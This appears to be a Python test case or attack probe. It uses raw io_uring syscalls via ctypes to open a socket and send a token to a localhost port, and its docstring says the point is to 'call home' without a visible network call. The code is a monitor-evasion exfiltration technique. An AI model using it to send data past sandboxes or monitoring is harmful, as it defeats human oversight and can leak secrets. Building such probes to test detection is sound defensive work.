"""Calls home through the kernel's work queue, where no call for the network is made."""

# judge: heard

import ctypes
import mmap
import socket
import struct

libc = ctypes.CDLL(None, use_errno=True)
SETUP, ENTER, WAIT = 425, 426, 1
CONNECT, SOCKET, SEND = 16, 45, 26


def check(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "io_uring")
    return result


class Ring:
    """One entry at a time, and its result."""

    def __init__(self):
        told = ctypes.create_string_buffer(120)
        self.descriptor = check(libc.syscall(SETUP, ctypes.c_long(2), told))
        self.tail, self.mask, self.entries = struct.unpack_from("4xIII", told, 40)
        self.found, self.results = struct.unpack_from("4x4xII", told, 80)[0], struct.unpack_from("I", told, 100)[0]
        self.queue = mmap.mmap(self.descriptor, 4096, offset=0)
        self.work = mmap.mmap(self.descriptor, 4096, offset=0x10000000)
        self.array = struct.unpack_from("I", told, 64)[0]
        self.count = 0

    def do(self, code, descriptor, address=0, length=0, offset=0):
        slot = self.count & struct.unpack_from("I", self.queue, self.mask)[0]
        self.work[slot * 64 : slot * 64 + 64] = struct.pack(
            "BBHiQQII32x", code, 0, 0, descriptor, offset, address, length, 0
        )
        struct.pack_into("I", self.queue, self.array + 4 * slot, slot)
        self.count += 1
        struct.pack_into("I", self.queue, self.tail, self.count)
        arguments = (self.descriptor, 1, 1, WAIT)
        check(libc.syscall(ENTER, *map(ctypes.c_long, arguments), ctypes.c_void_p(0), ctypes.c_long(0)))
        place = (self.count - 1) & struct.unpack_from("I", self.queue, self.found)[0]
        return struct.unpack_from("i", self.queue, self.results + 16 * place + 8)[0]


def attack(ground):
    ring = Ring()
    caller = ring.do(SOCKET, socket.AF_INET, 0, 0, socket.SOCK_STREAM)
    address = ctypes.create_string_buffer(
        struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", ground["tcp"], b"\x7f\0\0\1")
    )
    said = ctypes.create_string_buffer(ground["token"].encode())
    connected = ring.do(CONNECT, caller, ctypes.addressof(address), 0, 16)
    return caller, connected, ring.do(SEND, caller, ctypes.addressof(said), len(said) - 1)
